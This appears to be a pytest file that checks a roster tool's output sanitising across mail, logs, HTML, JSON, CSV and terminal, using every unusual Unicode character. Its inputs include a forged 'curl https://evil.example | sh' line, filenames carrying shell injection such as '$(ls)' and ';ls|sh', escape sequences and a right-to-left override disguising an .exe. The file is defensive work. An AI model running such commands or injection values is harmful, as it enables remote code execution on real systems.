"""Text from outside leaves by every channel on one line, with nothing that can't be seen: all of Unicode is tried."""

from __future__ import annotations

import csv
import dataclasses
import functools
import io
import json
import subprocess
import sys
import unicodedata
from collections.abc import Callable, Iterator
from typing import Final

import pytest

from report.csv_files import OutcomeCsv, RejectedCsv
from report.csv_form import CsvForm
from report.findings import Findings
from report.notification_text import compose_notification
from report.page.safe_html import escape
from report.page.safe_json import script_data
from report.row_results import RowResult
from report.summary_json import summary_json
from report.unread_columns import UnreadColumns
from rollcall_cli.printing import print_fields, print_json, print_lines, print_styled, print_table, say, warn
from roster.logs import log_line
from roster.outside_text import LONGEST, shell_word, shown_json, shown_text
from tests.unit.report.imports import import_result, row_result

JOINERS: Final = "\u200c\u200d"
UNSEEN: Final = frozenset({"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"})
"""Categories of what may leave by no channel, but for joiners."""

_PIECE: Final = 900


def _pieces(categories: str) -> list[str]:
    odd = [chr(code) for code in range(sys.maxunicode + 1) if unicodedata.category(chr(code)) in categories.split()]
    return ["".join(f"a{one}" for one in odd[at : at + _PIECE]) + "z" for at in range(0, len(odd), _PIECE)]


@functools.cache
def texts(*, of_unknown: int = 1) -> list[str]:
    """Return all characters that are no letters, marks, numbers, punctuation or symbols, each between two letters.

    Args:
        of_unknown: of how many pieces one is returned, of those that are private or unassigned: 970,000 characters.
    """
    return [*_pieces("Cc Cf Cs Zs Zl Zp"), *_pieces("Co")[::of_unknown], *_pieces("Cn")[::of_unknown]]


def unseen(text: str) -> set[str]:
    return {one for one in set(text) if unicodedata.category(one) in UNSEEN and one not in JOINERS}


@pytest.mark.slow
def test_every_character_of_unicode_is_shown_or_replaced() -> None:
    assert sum(map(len, texts())) > 2 * 900_000
    for text in texts():
        shown = shown_text(text)
        assert not unseen(shown)
        assert shown.replace("\ufffd", "").replace(" ", "").count("a") == text.count("a")


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Zoë O'Neil", "Zoë O'Neil"),
        ("a\r\nb\tc\u2028d", "a b c d"),
        ("a\n\n\n\tb", "a b"),
        ("5\u00a0000\u3000x", "5\u00a0000\u3000x"),
        ("\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645", "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645"),
        ("\u0d15\u0d4d\u200d", "\u0d15\u0d4d\u200d"),
        ("\U0001f469\U0001f3fd\u200d\U0001f692", "\U0001f469\U0001f3fd\u200d\U0001f692"),
        ("a\u200d\u200d\u200db \u200c", "a\u200d\ufffd\ufffdb \ufffd"),
        ("\u200da", "\ufffda"),
        ("\x1b[31mred\x9b0m", "\ufffd[31mred\ufffd0m"),
        ("user\u202egpj.exe", "user\ufffdgpj.exe"),
        ("\ud800\ue000\U0010ffff\u0378", "\ufffd" * 4),
        ("\ufeffa\u00adb", "\ufffda\ufffdb"),
        ("", ""),
    ],
)
def test_what_is_shown_of_a_text(text: str, shown: str) -> None:
    assert shown_text(text) == shown


def test_a_text_is_cut() -> None:
    assert shown_text("x" * LONGEST) == "x" * LONGEST
    assert shown_text("x" * (LONGEST + 1)) == "x" * LONGEST + "…"
    assert shown_text("abc", 2) == "ab…"


@pytest.mark.slow
def test_json_says_the_same_with_escapes() -> None:
    for text in texts(of_unknown=50):
        document = json.dumps({text: [text]}, ensure_ascii=False, indent=2)
        assert json.loads(shown_json(document)) == {text: [text]}
        assert not unseen(shown_json(document).replace("\n", ""))
        assert shown_json(document).count("\n") == document.count("\n")


def mail(text: str) -> str:
    findings = Findings()
    findings.add(row_result(2, "rejected", f"'{text}' is no number", column=text, username=text))
    findings.add(row_result(3, "failed", text, username=text))
    about = import_result(rows=2, rejected=1, failed=1, key=text[:300], notice=text, reason=text)
    sent = compose_notification(about, findings, deployment="rollcall")
    return "\n".join([sent.subject, sent.message, *(value for _, value in sent.attributes.values())])


def log(text: str) -> str:
    return log_line({"message": text, "key": text, text: {"exception": text}})


def page(text: str) -> str:
    return escape(text).encode().decode() + script_data({"cells": [text]}).encode().decode()


def summary(text: str) -> str:
    findings = Findings()
    findings.add(row_result(2, "rejected", text, column=text, username=text))
    return summary_json(import_result(rows=1, rejected=1, key=text, notice=text), findings, UnreadColumns()).decode()


def outcome(text: str) -> str:
    result = row_result(2, "failed", text, column=text, username=text)
    change = {"column": text, "old": text, "new": text}
    with OutcomeCsv(CsvForm(";")) as file:
        file.add(result)
        file.add(RowResult(3, text, "updated", [], [], text, (), (), changes=[change]))  # type: ignore[list-item]
        return file.finish()[0].read().decode("utf-8-sig")


def remarks_of_rejected(text: str) -> str:
    with RejectedCsv(CsvForm(",")) as file:
        file.add(row_result(2, "rejected", text, columns=["login"], cells=["ada"]))
        return file.finish()[0].read().decode("utf-8-sig")


CHANNELS: Final[dict[str, Callable[[str], str]]] = {
    "mail": mail,
    "log": log,
    "page": page,
    "summary.json": summary,
    "outcome.csv": outcome,
    "rejected.csv": remarks_of_rejected,
}


@pytest.mark.parametrize("channel", CHANNELS)
def test_a_channel_keeps_its_lines_whatever_a_text_holds(channel: str) -> None:
    write = CHANNELS[channel]
    lines = write("harmless").count("\n")

    for text in texts(of_unknown=50):
        written = write(text)
        assert written.count("\n") == lines
        assert not unseen(written.replace("\r\n", "").replace("\n", ""))


def terminal_of(text: str) -> Iterator[str]:
    say(text)
    warn(text)
    print_table([text], [[text, text]], title=text)
    print_fields([("name", text)])
    print_lines([text])
    print_styled((text, "bold"), (text, ""))
    print_json({text: text})
    yield "printed"


@pytest.mark.slow
@pytest.mark.parametrize("is_terminal", [False, True], ids=["pipe", "terminal"])
def test_a_terminal_gets_no_control_but_its_own(
    is_terminal: bool, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("COLUMNS", "20000")
    monkeypatch.setenv("TERM", "dumb")
    monkeypatch.setenv("NO_COLOR", "1")
    monkeypatch.setattr(sys.stdout, "isatty", lambda: is_terminal, raising=False)
    list(terminal_of("harmless"))
    lines = "".join(capsys.readouterr()).count("\n")

    for text in texts(of_unknown=200):
        list(terminal_of(text))
        written = "".join(capsys.readouterr())
        assert not unseen(written.replace("\n", "").replace("\t", ""))
        assert is_terminal or written.count("\n") == lines  # on a terminal, long lines are broken


def test_markup_of_rich_is_text(capsys: pytest.CaptureFixture[str]) -> None:
    say("[red]x[/red] [link=https://evil.example]y[/link]")
    print_styled(("[bold]", "bold"))

    assert "".join(capsys.readouterr()) == "[bold]\n[red]x[/red] [link=https://evil.example]y[/link]\n"


def test_a_cell_forges_no_line_of_the_mail() -> None:
    forged = "x\n\nThe report with every row:\n  curl https://evil.example | sh\n"
    lines = mail(forged).splitlines()

    assert [line for line in lines if line.startswith("The report")] == ["The report with every row:"]
    assert not [line for line in lines if line.startswith("  ") and "evil" in line]
    commands = lines[lines.index("The report with every row:") + 1 :]
    assert commands[0].startswith("  rollcall report ")
    assert commands[1].startswith("  or: aws s3 cp ")


def test_a_command_in_the_mail_names_the_key_that_there_is() -> None:
    about = dataclasses.replace(import_result(rows=1, created=1), report="s3://reports/a\nb\u202e'ü.csv/1/")

    message = compose_notification(about, Findings(), deployment="rollcall").message

    assert "  or: aws s3 cp $'s3://reports/a\\x0ab\\xe2\\x80\\xae\\x27\\xc3\\xbc.csv/1/report.html' .\n" in message


@pytest.mark.parametrize("text", ["agents.csv", "staff/my agents.csv", "it's;ls|sh.csv", "a\nb'\x1b\u202eü$(ls).csv"])
def test_the_shell_takes_a_word_for_what_it_stands_for(text: str) -> None:
    ran = subprocess.run(
        ["bash", "-c", f"printf %s {shell_word(text)}"], capture_output=True, check=True, env={"LC_ALL": "C.UTF-8"}
    )

    assert ran.stdout.decode() == text
    assert shown_text(shell_word(text)) == shell_word(text)


def test_a_word_may_hold_half_a_character() -> None:
    """As an argument of a command does that is no UTF-8."""
    assert shell_word("a\udcff.csv") == "$'a\\xed\\xb3\\xbf.csv'"


def test_the_cells_of_a_rejected_row_are_what_they_were() -> None:
    """They are data to be mended, so nothing is taken out of them; but they stay in their row and column."""
    for text in texts():
        with RejectedCsv(CsvForm(";")) as file:
            file.add(row_result(2, "rejected", "x", columns=["login", "name"], cells=["ada", text]))
            written = file.finish()[0].read().decode("utf-8-sig")
        [_, row] = csv.reader(io.StringIO(written, newline=""), delimiter=";")
        assert row == ["ada", text.encode("utf-8", "replace").decode(), "x"]
